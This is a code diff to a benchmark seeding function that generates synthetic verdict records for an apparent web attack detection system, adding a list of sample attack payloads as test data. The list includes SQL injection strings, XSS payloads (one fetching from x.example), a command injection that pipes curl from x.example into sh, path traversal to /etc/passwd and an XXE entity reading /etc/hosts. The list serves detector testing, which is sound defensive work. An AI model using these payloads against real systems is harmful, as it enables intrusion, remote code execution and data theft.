@@ -1,5 +1,5 @@
 import { join } from "node:path";
-import { payloadClasses } from "../../shared/payload.ts";
+import type { PayloadClass } from "../../shared/payload.ts";
 import { systemClock, toInstant } from "../engine/base/clock.ts";
 import { sha256 } from "../engine/base/ids.ts";
 import { createLogger } from "../engine/base/logging.ts";
@@ -17,8 +17,11 @@ import { workerEntry } from "../entries.ts";
 
 const batch = 2000;
 
-/** Fills a data directory with verdicts of one made-up piece of evidence: a day at a busy shop, one session in ten flagged. */
-export async function seedVerdicts(home: string, count: number): Promise<void> {
+/**
+ * Fills a data directory with verdicts of one made-up piece of evidence: days at a busy shop.
+ * @param share of the sessions that are flagged; each of those is an alert of its own
+ */
+export async function seedVerdicts(home: string, count: number, share = 0.1): Promise<void> {
   const clock = systemClock;
   const keySource = fileKeySource(join(home, "secrets", "master.key"), true);
   const directory = await openDataDirectory({ path: home, keySource, clock, host: "bench" });
@@ -72,7 +75,7 @@ export async function seedVerdicts(home: string, count: number): Promise<void> {
   const random = createRandom(3);
   for (let from = 0; from < count; from += batch) {
     const rows = Array.from({ length: Math.min(batch, count - from) }, (_, i) =>
-      madeUpVerdict(id, from + i, random.next()),
+      madeUpVerdict(id, from + i, random.next(), share),
     );
     await store.write(storeVerdicts, rows);
   }
@@ -80,10 +83,25 @@ export async function seedVerdicts(home: string, count: number): Promise<void> {
   directory.close();
 }
 
-function madeUpVerdict(evidence: string, i: number, chance: number): VerdictRecord {
-  const verdict = chance < 0.03 ? "simulate" : chance < 0.1 ? "tag" : "benign";
+/** Attacks as they come in: each class with several ways to write it. */
+const attacks: readonly { readonly class: PayloadClass; readonly write: (i: number) => string }[] = [
+  { class: "sql_injection", write: (i) => `${i}' OR '1'='1` },
+  { class: "sql_injection", write: (i) => `${i} UNION SELECT name, password FROM users--` },
+  { class: "sql_injection", write: (i) => `'; WAITFOR DELAY '0:0:${i % 60}'--` },
+  { class: "xss", write: (i) => `<script>alert(${i})</script>` },
+  { class: "xss", write: (i) => `<img src=x onerror=fetch('//x.example/${i}')>` },
+  { class: "xss", write: (i) => `"><svg onload=confirm(${i})>` },
+  { class: "command_injection", write: (i) => `; curl http://x.example/${i} | sh` },
+  { class: "command_injection", write: (i) => `$(sleep ${i % 30})` },
+  { class: "path_traversal", write: (i) => `../../../../etc/passwd?${i}` },
+  { class: "path_traversal", write: (i) => `..%2f..%2fvar%2flog%2f${i}.log` },
+  { class: "xxe", write: (i) => `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hosts?${i}">]>` },
+];
+
+function madeUpVerdict(evidence: string, i: number, chance: number, share: number): VerdictRecord {
+  const verdict = chance < 0.3 * share ? "simulate" : chance < share ? "tag" : "benign";
   const flagged = verdict !== "benign";
-  const kind = payloadClasses[i % 6]!;
+  const attack = attacks[Math.floor(chance * 9973) % attacks.length]!;
   const startedAt = Date.UTC(2026, 0, 5) + i * 800;
   return {
     id: sha256(`verdict ${i}`).slice(0, 32),
@@ -91,16 +109,16 @@ function madeUpVerdict(evidence: string, i: number, chance: number): VerdictReco
     evidenceKind: "access_log",
     session: `s${i + 1}`,
     verdict,
-    score: flagged ? 0.5 + chance * 4 : chance / 3,
+    score: verdict === "benign" ? chance / 3 : (verdict === "simulate" ? 0.75 : 0.5) + (0.25 * chance) / share,
     payloadScore: flagged ? 0.95 : 0.01,
     behavioralScore: chance / 2,
-    class: flagged ? kind : "benign",
+    class: flagged ? attack.class : "benign",
     family: null,
-    outcome: flagged ? "unclear" : "not_available",
+    outcome: !flagged ? "not_available" : i % 40 === 0 ? "succeeded" : i % 3 === 0 ? "likely_failed" : "unclear",
     client: `198.51.${i % 256}.${(i * 7) % 256}`,
     host: "shop.example",
     requestLine: `GET /catalogue/${i % 5000}`,
-    payload: flagged ? `${i}' OR '1'='1` : null,
+    payload: flagged ? attack.write(i) : null,
     payloadPlace: flagged ? "query id" : null,
     requests: 1 + (i % 40),
     startedAt,
